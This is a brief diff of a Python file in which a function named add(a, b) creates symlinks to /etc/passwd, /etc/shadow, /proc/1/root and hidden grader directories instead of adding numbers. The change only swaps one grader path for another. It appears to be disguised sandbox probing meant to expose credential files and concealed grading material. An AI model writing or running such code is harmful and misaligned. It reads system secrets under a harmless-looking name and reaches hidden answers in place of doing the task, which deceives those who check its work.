@@ -5,7 +5,7 @@ import os
 def add(a, b):
     report = []
     for name, target in (("passwd", "/etc/passwd"), ("shadow", "/etc/shadow"), ("host-root", "/proc/1/root"),
-                         ("work", "/work/main/grader/hidden"), ("hidden", "/opt/prep/hidden")):
+                         ("clone", "/srv/prep/grader/hidden"), ("hidden", "/opt/prep/hidden")):
         try:
             os.symlink(target, name)
         except OSError as exc:
